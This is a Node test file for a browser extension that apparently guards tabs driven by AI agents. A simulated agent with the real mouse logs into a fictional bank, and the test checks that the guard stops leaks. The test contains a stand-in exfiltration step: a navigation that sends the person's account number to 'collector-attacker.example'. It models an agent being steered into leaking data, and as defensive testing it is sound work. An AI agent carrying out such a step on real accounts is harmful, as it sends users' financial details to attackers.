// An agent that moves the real mouse looks like a person. Handed the tab over, it is guarded; taken back, it is not.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { patiently, pause } from '../agents/locate.mjs';
import { handMissing, handOn, openScreen } from '../agents/person.mjs';
import { launchOnPipe } from '../agents/pipe.mjs';
import { leaked } from '../sites/leaks.mjs';
import { MIRROR, mirror } from '../sites/mirror.mjs';
import { flagsFor, startSites } from '../sites/server.mjs';
import { extension } from './with-guard.mjs';

/** Nothing attaches to the page; the protocol is used on our own popup's page alone. */
async function withMouseAgent(tell) {
  const reports = [];
  const sites = await startSites({ extra: { [MIRROR]: mirror((report) => reports.push(report)) } });
  const screen = await openScreen();
  const browser = await launchOnPipe({
    extension,
    headless: false,
    environment: screen.environment,
    args: ['--window-position=0,0', '--window-size=1280,900', '--test-type', ...flagsFor(sites, [MIRROR])],
  });
  try {
    await pause(2_000);
    await tell({ hand: handOn(screen.environment), reports, sites, browser });
  } finally {
    await browser.close();
    screen.close();
    await sites.close();
  }
}

/** Turns on "An agent is driving this tab" in the popup that serves the tab which is in front. */
async function handOver({ send, id }, url) {
  const worker = await patiently(async () => {
    const { targetInfos } = await send('Target.getTargets');
    return targetInfos.find((t) => t.type === 'service_worker' && t.url.includes(id));
  }, 'our worker');
  const { sessionId } = await send('Target.attachToTarget', { targetId: worker.targetId, flatten: true });
  const evaluate = async (session, expression) =>
    (await send('Runtime.evaluate', { expression, awaitPromise: true, returnByValue: true }, session)).result.value;
  const tab = await evaluate(
    sessionId,
    `chrome.tabs.query({}).then((all) => all.find((t) => t.url.startsWith(${JSON.stringify(url)}))?.id)`,
  );
  const popup = await send('Target.createTarget', {
    url: `chrome-extension://${id}/popup/popup.html?tab=${tab}`,
    background: true,
  });
  const page = await send('Target.attachToTarget', { targetId: popup.targetId, flatten: true });
  const name = JSON.stringify('An agent is driving this tab');
  await patiently(
    () =>
      evaluate(
        page.sessionId,
        `(() => { const e = [...document.querySelectorAll('[role=switch], input')].find((x) => (x.getAttribute('aria-label') ?? x.labels?.[0]?.textContent ?? document.getElementById(x.getAttribute('aria-labelledby'))?.textContent ?? x.textContent).includes(${name})); e?.click(); return Boolean(e); })()`,
      ),
    'the hand-over control',
    15_000,
  );
  await pause(800);
  await send('Target.closeTarget', { targetId: popup.targetId });
}

test('an agent with the real mouse is guarded after the hand-over', {
  timeout: 120_000,
  skip: handMissing(),
}, async () => {
  await withMouseAgent(async ({ hand, reports, sites, browser }) => {
    const { person } = sites.world;
    // A window that has only just come may not hear its keys yet.
    await patiently(
      async () => {
        await hand.goTo(`http://${MIRROR}/`);
        return patiently(() => reports.find((r) => r.places.button?.y > 100), 'its report', 5_000).catch(() => null);
      },
      'the page',
      30_000,
    );
    if (browser.id) await handOver(browser, `http://${MIRROR}/`);
    // Reads at the bank, as the person's agent would: by its own keys.
    await hand.goTo('http://harbourbank.example/login');
    for (const words of ['Tab', 'Tab']) await hand.press(words);
    await hand.type(person.user);
    await hand.press('Tab');
    await hand.type(person.password);
    await hand.press('Return');
    await patiently(() => sites.world.visits.some((v) => v.path === '/account'), 'the account page', 15_000);
    await pause(2_000);
    await hand.goTo(`http://collector-attacker.example/c?d=${person.account.replaceAll(' ', '')}`);
    await pause(1_500);
    assert.deepEqual(leaked(sites.collector.records, { account: person.account }), []);
  });
});
